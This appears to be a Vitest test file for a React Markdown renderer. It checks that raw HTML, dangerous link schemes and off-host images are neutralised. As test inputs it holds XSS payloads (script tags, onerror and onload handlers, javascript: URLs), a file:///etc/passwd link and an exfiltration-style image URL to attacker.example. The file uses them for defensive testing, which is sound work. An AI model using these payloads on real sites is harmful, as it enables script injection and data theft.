import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { LocaleProvider } from '../../../i18n/locale-context';
import { Markdown } from './markdown';

const html = (source: string) =>
  renderToStaticMarkup(
    <LocaleProvider locale="ru">
      <Markdown source={source} />
    </LocaleProvider>,
  );

describe('Markdown', () => {
  it('renders GitHub-flavoured tables, task lists and strikethrough', () => {
    const out = html('| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n~~old~~');
    expect(out).toContain('<table>');
    expect(out).toContain('type="checkbox"');
    expect(out).toContain('<del>old</del>');
  });

  it('never renders raw HTML', () => {
    const out = html('<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\nok <b>bold</b>');
    expect(out).not.toMatch(/<script|onerror|<b>/i);
    expect(out).toContain('ok');
  });

  it('drops forbidden link and image URLs, keeping the text', () => {
    const out = html(
      '[a](javascript:alert(1)) [b](vbscript:x) [c](file:///etc/passwd) [d](data:text/html,x)\n\n' +
        '![e](data:image/svg+xml,<svg/onload=alert(1)>) ![f](data:image/png;base64,AAAA)',
    );
    expect(out).not.toMatch(/javascript:|vbscript:|file:|data:text|svg\+xml/i);
    expect(out).toContain('src="data:image/png;base64,AAAA"');
    expect(out).toContain('<span class="md-dropped-link">a</span>');
  });

  it('opens external links in a new tab without an opener', () => {
    expect(html('[x](https://example.com)')).toContain(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(html('[x](/ru/chat)')).toBe('<p><a href="/ru/chat">x</a></p>');
  });

  it('shows an image on another host only as a link naming the host, never as an <img>', () => {
    const out = html('![x](https://attacker.example/?q=secret) ![y](//evil.example/p.png)');
    expect(out).not.toContain('<img');
    expect(out).toContain(
      '<a href="https://attacker.example/?q=secret" target="_blank" rel="noopener noreferrer"',
    );
    expect(out).toContain('🖼 изображение: attacker.example (x)');
    expect(out).toContain('🖼 изображение: evil.example (y)');
  });

  it('shows our own media inline', () => {
    const out = html('![a](/api/v1/files/1/content) ![b](data:image/png;base64,AAAA)');
    expect(out).toContain('<img src="/api/v1/files/1/content" alt="a" loading="lazy"/>');
    expect(out).toContain('<img src="data:image/png;base64,AAAA" alt="b" loading="lazy"/>');
  });

  it('renders code blocks with their language and a copy button', () => {
    const out = html('```ts\nconst a = "<b>";\n```');
    expect(out).toContain('data-testid="code-copy"');
    expect(out).toContain('const a = &quot;&lt;b&gt;&quot;;');
  });

  it('limits nesting of quotes and lists', () => {
    const deep = `${'>'.repeat(40)} deep`;
    expect((html(deep).match(/<blockquote>/g) ?? []).length).toBe(20);
  });
});
